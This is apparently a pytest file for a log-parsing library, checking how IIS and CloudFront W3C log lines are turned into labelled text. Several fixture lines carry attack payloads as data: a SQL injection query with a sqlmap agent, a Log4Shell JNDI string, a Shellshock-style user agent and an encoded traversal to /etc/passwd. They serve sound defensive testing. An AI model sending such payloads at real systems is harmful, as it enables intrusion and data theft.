"""The extended format of W3C: columns are those of `#Fields:`, and change with it."""

from __future__ import annotations

from contextlib import closing
from pathlib import Path
from typing import Any

import pytest

from tests.sources.logs.rows import Row, rows
from vestige.reading.steps import Evidence
from vestige.sources.logs.corpora import rules_for
from vestige.sources.logs.labels import LabelRule
from vestige.sources.logs.options import LogOptions
from vestige.sources.logs.parse import Rules
from vestige.sources.logs.reader import LogReader
from vestige.sources.logs.schema import schema_for
from vestige.sources.logs.stream import MOST_CHANGES, MOST_FOLLOWED
from vestige.sources.logs.w3c import columns_of

IIS = (
    "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) "
    "cs(Referer) sc-status sc-substatus sc-win32-status time-taken"
)
CLOUDFRONT = (
    "#Fields: date time x-edge-location sc-bytes c-ip cs-method cs(Host) cs-uri-stem sc-status cs(Referer) "
    "cs(User-Agent) cs-uri-query cs(Cookie) x-edge-result-type"
)
SHORT = "#Fields: date time c-ip cs-method cs-uri-stem sc-status"
TURNED = "#Fields: time date c-ip sc-status cs-uri-stem cs-method"
HEAD = (
    "#Software: Microsoft Internet Information Services 10.0",
    "#Version: 1.0",
    "#Date: 2024-05-06 07:08:00",
)
CHROME = (
    "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36"
    "+(KHTML,+like+Gecko)+Chrome/125.0+Safari/537.36"
)
WHEN = "2024-05-06T07:08:09"


def iis(request: str, agent: str = CHROME, status: str = "200") -> str:
    return f"2024-05-06 07:08:09 fe80::1%4 {request} 443 - 2001:db8::7 {agent} - {status} 0 0 15"


def read(tmp_path: Path, *lines: str, **options: Any) -> tuple[list[Row], dict[str, Any]]:
    """The messages of a file of these lines, and what its stream says."""
    path = tmp_path / "u_ex240506.log"
    path.write_text("".join(f"{line}\n" for line in lines))
    summary: dict[str, Any] = {}
    return rows(path, summary=summary, **options), summary


@pytest.mark.parametrize(
    ("line", "text"),
    [
        (iis("GET /index.html -"), "<ok><chrome> GET /index.html"),
        (iis("GET /admin -", "-", "403"), "<forbidden><nobody> GET /admin"),
        (iis("GET /item/17 page=2&q=shoes"), "<ok><chrome> GET /item/<number> page=<value>&q=<value>"),
        (iis("GET /js/app.min.js v=3", "curl/8.1", "304"),
         "<not_modified><tool> GET /js/<file>.js v=<value>"),
        (iis("POST /a id=1'+OR+1=1--", "sqlmap/1.6#stable+(https://sqlmap.org)", "500"),
         "<server_error><scanner> POST /a id=<number>'+OR+1=<value>"),
        (iis("GET / -", "${jndi:ldap://x/a}"), "<ok> ${jndi:ldap://x/a} GET /"),
        (iis("GET / -", "Mozilla/5.0+()+%7B+:;%7D"), "<ok> Mozilla/<number>.<number>+()+%7B+:;%7D GET /"),
        (iis('GET /"quoted" -', '"Shop 3"', "404"), '<not_found> "Shop 3" GET /"quoted"'),
        (iis("GET /x -", "Googlebot/2.1+(+http://a/b.html)", "-"), "<answer><bot> GET /x"),
    ],
)  # fmt: skip
def test_what_models_see_of_a_request(tmp_path: Path, line: str, text: str) -> None:
    found, summary = read(tmp_path, *HEAD, IIS, line)
    assert found == [(WHEN, text)]
    assert summary["formats"] == {"w3c": 1}
    assert summary["warnings"] == []
    assert summary["counts"]["lines_between_messages"] == len([*HEAD, IIS])


def test_tabs_and_fields_that_are_encoded_once_or_twice(tmp_path: Path) -> None:
    lines = [
        "2024-05-06\t07:08:09\tFRA2-C1\t2390\t2001:db8::7\tGET\td1.example\t/img/a.gif\t200\t-\t"
        "Mozilla/5.0%2520(X11;%2520Linux)%2520Firefox/115.0\tid=5\t-\tHit",
        "2024-05-06\t07:08:09\tFRA2-C1\t2390\t192.0.2.7\tGET\td1.example\t/..%252f..%252fetc/passwd\t403\t-\t"
        "curl/8.1%20(x)\t-\t-\tError",
    ]
    found, _ = read(tmp_path, "#Version: 1.0", CLOUDFRONT, *lines)
    assert [text for _, text in found] == [
        "<ok><firefox> GET /img/<file>.gif id=<value>",
        "<forbidden><tool> GET /..%252f..%252fetc/passwd",
    ]


def test_columns_are_those_of_the_last_line_that_named_them(tmp_path: Path) -> None:
    found, summary = read(
        tmp_path, IIS, iis("GET / -"), *HEAD, IIS, iis("GET /b -"), *HEAD, SHORT,
        "2024-05-06 07:08:10 192.0.2.7 GET /admin 401", *HEAD, TURNED,
        "07:08:11.5 2024-05-06 192.0.2.7 404 /c HEAD",
        IIS, iis("GET / -"),
    )  # fmt: skip
    assert found == [
        (WHEN, "<ok><chrome> GET /"),
        (WHEN, "<ok><chrome> GET /b"),
        ("2024-05-06T07:08:10", "<unauthorized> GET /admin"),
        ("2024-05-06T07:08:11.5", "<not_found> HEAD /c"),
        (WHEN, "<ok><chrome> GET /"),
    ]
    assert summary["warnings"] == [
        f"from line {row} on it has other columns (#Fields)" for row in (11, 16, 18)
    ]


def test_changes_are_told_however_many_there_are(tmp_path: Path) -> None:
    lines = [IIS, iis("GET / -"), SHORT, "2024-05-06 07:08:09 192.0.2.7 GET / 200"] * MOST_CHANGES
    found, summary = read(tmp_path, *lines)
    assert [text for _, text in found] == ["<ok><chrome> GET /", "<ok> GET /"] * MOST_CHANGES
    assert len(summary["warnings"]) == MOST_CHANGES + 1
    assert summary["warnings"][-1] == f"its columns change {MOST_CHANGES - 1} more times"


def test_that_changes_are_followed_no_longer_is_told(tmp_path: Path) -> None:
    request = "2024-05-06 07:08:09 192.0.2.7 GET / 200"
    times = MOST_FOLLOWED // 2 + 2
    found, summary = read(tmp_path, *[IIS, iis("GET / -"), SHORT, request] * times)
    followed = [text for _, text in found[: MOST_FOLLOWED + 1]]
    assert followed == [("<ok><chrome> GET /", "<ok> GET /")[at % 2] for at in range(MOST_FOLLOWED + 1)]
    assert len(found) == 2 * times
    last = "changes of columns are followed no longer from line 2003 on: there are 1,000"
    assert last in summary["warnings"]


def test_a_change_is_followed_in_large_files_and_by_whoever_resumes(tmp_path: Path) -> None:
    n = 8000
    parts = [
        (IIS, [iis(f"GET /a{at % 7} -") for at in range(n)]),
        (SHORT, [f"2024-05-06 07:08:09 192.0.2.7 GET /b{at % 7} 404" for at in range(n)]),
        (TURNED, [f"07:08:09 2024-05-06 192.0.2.7 500 /c{at % 7} GET" for at in range(n)]),
    ]
    wanted = [row for named, lines in parts for row in read(tmp_path, named, *lines)[0]]
    lines = [line for named, below in parts for line in (named, *below)]
    assert read(tmp_path, *lines)[0] == wanted

    reader = LogReader(schema_for(rules_for(LogOptions()), length=2, stride=1))
    (unit,) = reader.units(Evidence((tmp_path / "u_ex240506.log",), "live")).units
    texts: list[str] = []
    position = None
    while True:
        with closing(reader.open(unit, resume=position)) as stream:
            block = stream.read(1500)
            texts += [] if block is None else reader.text(block.values, block.symbols)
            position = stream.position
            if stream.ended:
                break
    assert texts == [text for _, text in wanted]


def test_a_request_that_is_cut_short_is_one_by_itself(tmp_path: Path) -> None:
    short, long = iis("GET / -"), iis(f"GET /{'a' * 500_000} -", status="404")
    found, summary = read(tmp_path, IIS, short, long, "cut", short)
    assert [text[:12] for _, text in found] == ["<ok><chrome>", "GET /aaaaaaa", "cut", "<ok><chrome>"]
    assert summary["counts"]["over_long"] == 1
    assert summary["counts"]["multi_line_messages"] == 0
    assert summary["counts"]["bad_times"] == 1


def test_columns_that_are_lacking_are_told(tmp_path: Path) -> None:
    found, summary = read(
        tmp_path, "#Fields: time cs-method cs-uri-stem sc-status", "07:08:09 GET /admin 403"
    )
    assert found == [("-", "<forbidden> GET /admin")]
    assert summary["warnings"] == ["its #Fields names no date, so that messages have no time"]
    found, summary = read(
        tmp_path, "#Fields: date time c-ip cs-uri-stem", "2024-05-06 07:08:09 192.0.2.7 /admin"
    )
    assert found == [(WHEN, "<ip> <path>")]
    assert summary["warnings"] == ["its #Fields names no cs-method, sc-status: requests cannot be told by it"]


def test_other_logs_with_columns_are_read_as_before(tmp_path: Path) -> None:
    lines = [
        "#Fields: date time action protocol src-ip dst-ip",
        "2024-05-06 07:08:09 DROP TCP 192.0.2.7 192.0.2.8",
    ]
    found, summary = read(tmp_path, *lines)
    assert found == [(WHEN, "DROP TCP <ip> <ip>")]
    assert summary["warnings"] == []


def test_without_a_line_that_names_them_columns_are_those_of_iis(tmp_path: Path) -> None:
    lines = [iis("GET /index.html -"), iis("GET /admin -", "-", "403")]
    for options in ({}, {"format": "w3c"}):
        found, summary = read(tmp_path, *lines, **options)
        assert [text for _, text in found] == [
            "<ok><chrome> GET /index.html",
            "<forbidden><nobody> GET /admin",
        ]
        assert summary["formats"] == {"w3c": 1}


@pytest.mark.parametrize("named", [IIS, CLOUDFRONT, SHORT, TURNED, "#Fields: cs-uri-stem", "#Fields:"])
def test_the_kernel_reads_any_columns(named: str) -> None:
    from vestige.sources.logs.kernel.reader import KernelParser

    KernelParser(Rules(columns_of(named).format, LabelRule("none")))
